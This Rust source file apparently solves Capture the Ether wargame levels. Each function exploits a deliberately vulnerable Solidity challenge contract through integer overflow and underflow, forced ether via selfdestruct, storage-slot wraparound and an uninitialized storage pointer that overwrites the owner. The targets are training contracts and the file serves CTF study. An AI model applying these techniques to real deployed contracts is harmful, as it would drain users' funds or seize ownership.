//! Math levels: 256-bit wraparound and storage layout abuse.

use super::verify_complete;
use crate::{
    artifacts, overflow,
    runner::{confirm, Ctx},
    slots,
    utils::ether,
};
use alloy_primitives::{Address, U256};
use alloy_provider::Provider;
use alloy_rpc_types::TransactionRequest;
use alloy_sol_types::sol;
use eyre::{ensure, Result};
use tracing::{debug, info};

sol! {
    #[sol(rpc)]
    interface TokenSaleChallenge {
        function buy(uint256 numTokens) external payable;
        function sell(uint256 numTokens) external;
        function balanceOf(address account) external view returns (uint256);
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface TokenWhaleChallenge {
        function approve(address spender, uint256 value) external;
        function transfer(address to, uint256 value) external;
        function transferFrom(address from, address to, uint256 value) external;
        function balanceOf(address account) external view returns (uint256);
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface RetirementFundChallenge {
        function collectPenalty() external;
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface MappingChallenge {
        function set(uint256 key, uint256 value) external;
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface DonationChallenge {
        function donate(uint256 etherAmount) external payable;
        function withdraw() external;
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface FiftyYearsChallenge {
        function upsert(uint256 index, uint256 timestamp) external payable;
        function withdraw(uint256 index) external;
        function isComplete() external view returns (bool);
    }
}

/// `buy` computes `numTokens * 1 ether` in an overflowing multiplication;
/// pick the quantity whose wrapped price is cheapest, buy a colossal token
/// balance for well under an ether, and sell one token back.
pub async fn token_sale(ctx: &Ctx, target: Address) -> Result<()> {
    let purchase = overflow::cheapest_overflowing_purchase()?;
    info!(
        quantity = %purchase.quantity,
        payment_wei = %purchase.payment,
        "buying with overflowing payment"
    );

    let challenge = TokenSaleChallenge::new(target, &ctx.provider);
    confirm(challenge.buy(purchase.quantity).value(purchase.payment).send().await?).await?;

    let balance = challenge.balanceOf(ctx.sender()).call().await?;
    debug!(balance = %balance, "token balance after purchase");

    confirm(challenge.sell(U256::from(1)).send().await?).await?;
    verify_complete(challenge.isComplete().call().await?)
}

/// `transferFrom` adjusts `balanceOf[msg.sender]` instead of the `from`
/// account; a self-transfer signed by the accomplice underflows the
/// accomplice's zero balance into a fortune.
pub async fn token_whale(ctx: &Ctx, target: Address) -> Result<()> {
    let accomplice = ctx.accomplice()?.address();
    let sender = ctx.sender();

    // The accomplice needs gas money.
    if ctx.provider.get_balance(accomplice).await? < ether(1) / U256::from(10) {
        let tx = TransactionRequest::default().to(accomplice).value(ether(1) / U256::from(10));
        confirm(ctx.provider.send_transaction(tx).await?).await?;
        info!(%accomplice, "funded accomplice");
    }

    let challenge = TokenWhaleChallenge::new(target, &ctx.provider);
    ensure!(
        challenge.balanceOf(sender).call().await? >= U256::from(1000),
        "player must still hold the airdropped 1000 tokens"
    );

    confirm(challenge.approve(accomplice, U256::from(1) << 255).send().await?).await?;
    confirm(
        challenge.transferFrom(sender, sender, U256::from(1)).from(accomplice).send().await?,
    )
    .await?;

    let whale_balance = challenge.balanceOf(accomplice).call().await?;
    ensure!(whale_balance >= U256::from(1_000_000), "underflow did not mint: {whale_balance}");
    debug!(balance = %whale_balance, "accomplice balance after underflow");

    confirm(
        challenge.transfer(sender, U256::from(1_000_000)).from(accomplice).send().await?,
    )
    .await?;
    verify_complete(challenge.isComplete().call().await?)
}

/// The challenge holds exactly 1 ether and computes `startBalance - balance`
/// unchecked. Force a stray wei in via `selfdestruct` (no fallback runs) and
/// the subtraction underflows, paying out everything as a "penalty".
pub async fn retirement_fund(ctx: &Ctx, target: Address) -> Result<()> {
    artifacts::deploy_helper(
        &ctx.provider,
        &ctx.artifacts,
        "RetirementFundAttacker",
        target,
        U256::from(1),
    )
    .await?;

    let balance = ctx.provider.get_balance(target).await?;
    ensure!(balance > ether(1), "selfdestruct wei did not arrive: balance {balance}");

    let challenge = RetirementFundChallenge::new(target, &ctx.provider);
    confirm(challenge.collectPenalty().send().await?).await?;
    verify_complete(challenge.isComplete().call().await?)
}

/// The whole contract is one `uint256[]` behind a key-is-index mapping
/// facade. Grow it to cover the entire address space, then write through the
/// index that wraps around to slot 0, where `isComplete` lives.
pub async fn mapping(ctx: &Ctx, target: Address) -> Result<()> {
    let challenge = MappingChallenge::new(target, &ctx.provider);

    // map.length = key + 1 = 2^256 - 1: bounds checks now pass everywhere.
    let expand_key = U256::MAX - U256::from(1);
    confirm(challenge.set(expand_key, U256::ZERO).send().await?).await?;

    // The array data starts at keccak(1); wrap around to absolute slot 0.
    let overwrite_key = slots::wrapping_index_to(U256::from(1), U256::ZERO);
    debug!(key = %overwrite_key, "index colliding with slot 0");
    confirm(challenge.set(overwrite_key, U256::from(1)).send().await?).await?;

    verify_complete(challenge.isComplete().call().await?)
}

/// An uninitialized storage-struct pointer makes `donation.etherAmount`
/// alias slot 1, the owner. The "scale" also divides by 10^36, so becoming
/// owner costs the address value over 10^36 — a few hundred wei.
pub async fn donation(ctx: &Ctx, target: Address) -> Result<()> {
    let sender_as_uint = U256::from_be_slice(ctx.sender().as_slice());
    let value = sender_as_uint / U256::from(10u64).pow(U256::from(36u64));
    info!(%value, "donating the owner-overwriting amount");

    let challenge = DonationChallenge::new(target, &ctx.provider);
    confirm(challenge.donate(sender_as_uint).value(value).send().await?).await?;
    confirm(challenge.withdraw().send().await?).await?;
    verify_complete(challenge.isComplete().call().await?)
}

/// Queue bookkeeping: slot 0 is `queue.length`, slot 1 is `head`, data at
/// `keccak(0)`. Two crafted upserts overflow the expiration check and write
/// a zero head; a selfdestruct top-up covers the two missing wei before the
/// full withdrawal.
pub async fn fifty_years(ctx: &Ctx, target: Address) -> Result<()> {
    log_queue_state(ctx, target).await?;
    let challenge = FiftyYearsChallenge::new(target, &ctx.provider);

    // Valid-looking timestamp that wraps to 0 when the contract adds 1 day.
    confirm(
        challenge
            .upsert(U256::from(1), overflow::day_wrapping_timestamp())
            .value(U256::from(1))
            .send()
            .await?,
    )
    .await?;
    log_queue_state(ctx, target).await?;

    // Appending with timestamp 0 writes 0 over `head` via the length slot.
    confirm(challenge.upsert(U256::from(2), U256::ZERO).value(U256::from(2)).send().await?)
        .await?;
    log_queue_state(ctx, target).await?;

    // The queue now promises 2 + 3 wei but the contract holds 3; top up by
    // selfdestruct, which no fallback can refuse.
    artifacts::deploy_helper(
        &ctx.provider,
        &ctx.artifacts,
        "RetirementFundAttacker",
        target,
        U256::from(2),
    )
    .await?;

    confirm(challenge.withdraw(U256::from(2)).send().await?).await?;
    log_queue_state(ctx, target).await?;
    verify_complete(challenge.isComplete().call().await?)
}

async fn log_queue_state(ctx: &Ctx, target: Address) -> Result<()> {
    let length = ctx.provider.get_storage_at(target, U256::ZERO).await?;
    let head = ctx.provider.get_storage_at(target, U256::from(1)).await?;
    let first = ctx.provider.get_storage_at(target, slots::array_data_slot(U256::ZERO)).await?;
    let balance = ctx.provider.get_balance(target).await?;
    debug!(%length, %head, %first, %balance, "queue state");
    Ok(())
}
